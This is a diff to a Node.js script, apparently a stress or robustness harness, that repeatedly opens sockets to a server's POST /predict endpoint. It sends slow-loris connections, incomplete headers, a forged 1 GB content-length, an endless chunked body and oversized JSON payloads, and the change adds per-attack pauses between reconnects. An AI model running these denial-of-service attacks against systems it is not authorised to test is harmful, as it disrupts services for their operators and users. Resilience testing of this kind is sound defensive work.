@@ -15,24 +15,31 @@ const COLUMNS = whole(`{${Array.from({ length: 10_000 }, (_, at) => `"column ${a
 const CHUNK = `10000\r\n${" ".repeat(65_536)}\r\n`;
 
 /** @typedef {(socket: import("node:net").Socket) => void} Attack */
-/** @type {readonly { count: number, attack: Attack }[]} */
+/**
+ * Connections at a time, and how long each kind waits between two: the large ones less often, as what makes them takes the
+ * same processors as what they attack.
+ *
+ * @type {readonly { count: number, attack: Attack, pauseMs?: number }[]}
+ */
 const attacks = [
   { count: 200, attack: slowly },
   { count: 50, attack: (socket) => socket.write("POST /predict HTTP/1.1\r\nhost: x\r\n") },
   { count: 20, attack: (socket) => socket.end(`${head("content-length: 1000")}{"bed"`) },
   { count: 4, attack: (socket) => socket.write(head("content-length: 1073741824")) },
-  { count: 2, attack: endlessly },
-  { count: 2, attack: (socket) => socket.write(BOMB) },
-  { count: 2, attack: (socket) => socket.write(WIDE) },
+  { count: 2, attack: endlessly, pauseMs: 1_000 },
+  { count: 2, attack: (socket) => socket.write(BOMB), pauseMs: 500 },
+  { count: 2, attack: (socket) => socket.write(WIDE), pauseMs: 500 },
   { count: 4, attack: (socket) => socket.write(COLUMNS) },
 ];
 
-for (const { count, attack } of attacks) for (let one = 0; one < count; one++) void again(attack);
+for (const { count, attack, pauseMs = 100 } of attacks) {
+  for (let one = 0; one < count; one++) void again(attack, pauseMs);
+}
 
-/** Each connection is followed by another, ten a second at most. @param {Attack} attack */
-async function again(attack) {
+/** Each connection is followed by another. @param {Attack} attack @param {number} pauseMs */
+async function again(attack, pauseMs) {
   for (;;) {
-    const least = sleep(100);
+    const least = sleep(pauseMs);
     await /** @type {Promise<void>} */ (
       new Promise((done) => {
         const socket = connect(Number(port), hostname, () => attack(socket));
